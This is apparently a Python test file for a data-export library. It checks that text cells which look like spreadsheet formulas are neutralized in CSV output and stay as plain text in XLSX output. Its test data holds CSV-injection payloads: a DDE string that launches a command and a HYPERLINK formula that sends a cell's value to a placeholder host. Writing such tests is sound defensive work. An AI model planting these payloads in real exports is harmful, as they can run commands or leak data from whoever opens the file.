"""Formulas are neutralized in CSV; other readers confirm it."""

from __future__ import annotations

import csv
import io
import re
from typing import TYPE_CHECKING

import openpyxl
import pyarrow as pa
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from penstock.reconcile.evidence.download import form_of

if TYPE_CHECKING:
    from penstock.reconcile.evidence.formulas import Formulas

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"total")',
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tx",
    "\ufeff=1+1",
    "\u00a0=1+1",
    '"=1+1',
    "\uff1d1+1",
    "--1",
    "-A1",
    "+",
    "=",
]
LATER = ["a;=1+1", "a; @x", "a\n=1+1", "a\t-A1", 'a";"=1+1']
HARMLESS = ["", "a", "a=b", "a-b", "1-1", "x@y.example", "'=1+1", "2024-01-31", "a;b", "a\nb"]
NUMBERS = ["-1", "+1", "-12.50", "-1,234.5", "-1e5", "+4.2E-10", "0"]
SIGNS = re.compile(
    r"[\x00-\x20\x7f-\u00a0\u2000-\u200f\u2028-\u202f\u3000\ufeff\"]*[=+\-@\uff1d\uff0b\uff0d\uff20]"
)
NUMBER = re.compile(r"[+-]?[0-9][0-9.,]*([eE][+-]?[0-9]{1,4})?")


def written(texts: list[str], formulas: Formulas = "neutralize", kind: pa.DataType = None) -> str:
    column = pa.array(texts, kind or pa.string())
    batch = pa.RecordBatch.from_arrays([column], names=["text"])
    return b"".join(form_of("csv", formulas).write(batch.schema, [batch])).decode()


def cells(text: str, delimiter: str = ",") -> list[str]:
    rows = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
    return [cell for row in list(rows)[1:] for cell in row]


@pytest.mark.parametrize("kind", [pa.string(), pa.large_string()], ids=str)
def test_a_text_that_begins_like_a_formula_has_an_apostrophe_before_it(kind: pa.DataType) -> None:
    written_cells = cells(written(FORMULAS, kind=kind))
    assert [cell[0] for cell in written_cells] == ["'"] * len(FORMULAS)
    assert [cell[1:].replace("'", "") for cell in written_cells] == [
        f.replace("'", "") for f in FORMULAS
    ]


def test_a_text_of_which_another_delimiter_makes_a_formula_is_changed_within() -> None:
    assert cells(written(LATER)) == ["a;'=1+1", "a; '@x", "a\n'=1+1", "a\t'-A1", 'a";"\'=1+1']


def test_numbers_and_other_texts_stay_as_they_are() -> None:
    assert cells(written([*HARMLESS, *NUMBERS])) == [*HARMLESS, *NUMBERS]


def test_a_column_s_name_is_no_formula_either() -> None:
    batch = pa.RecordBatch.from_arrays([pa.array(["a"])], names=["=1+1"])
    text = b"".join(form_of("csv", "neutralize").write(batch.schema, [batch])).decode()
    assert next(csv.reader(io.StringIO(text))) == ["'=1+1"]


def test_every_text_is_written_as_it_is_when_that_is_asked_for() -> None:
    texts = [*FORMULAS, *LATER, *HARMLESS, *NUMBERS]
    assert cells(written(texts, "keep")) == texts


def test_numbers_of_a_number_s_type_stay_numbers() -> None:
    batch = pa.RecordBatch.from_arrays(
        [pa.array([-1, None]), pa.array([-1.5, 2])], names=["a", "b"]
    )
    text = b"".join(form_of("csv", "neutralize").write(batch.schema, [batch])).decode()
    assert text.splitlines()[1:] == ["-1,-1.5", ",2"]


@settings(deadline=None)
@given(
    st.lists(
        st.text(
            st.sampled_from("=+-@\uff1d \t\r\n;,\"'a1\u00a0\ufeff") | st.characters(codec="utf-8")
        ),
        min_size=1,
        max_size=4,
    )
)
@example(["a", '";"=1'])
def test_no_cell_of_any_text_is_a_formula_whatever_delimiter_is_taken(texts: list[str]) -> None:
    for delimiter in ",;\t":
        for cell in cells(written(texts), delimiter):
            assert NUMBER.fullmatch(cell) or not SIGNS.match(cell), (texts, delimiter, cell)


def test_a_text_in_a_sheet_is_text_by_its_type_and_unchanged() -> None:
    texts = ["=1+1", "@SUM(A1)", "+1+1", "-1+1", "=HYPERLINK('x')"]
    batch = pa.RecordBatch.from_arrays([pa.array(texts)], names=["=1+1"])
    data = b"".join(form_of("xlsx", "neutralize").write(batch.schema, [batch]))
    [column] = openpyxl.load_workbook(io.BytesIO(data)).active.iter_cols()
    assert [(cell.value, cell.data_type) for cell in column] == [(t, "s") for t in ["=1+1", *texts]]
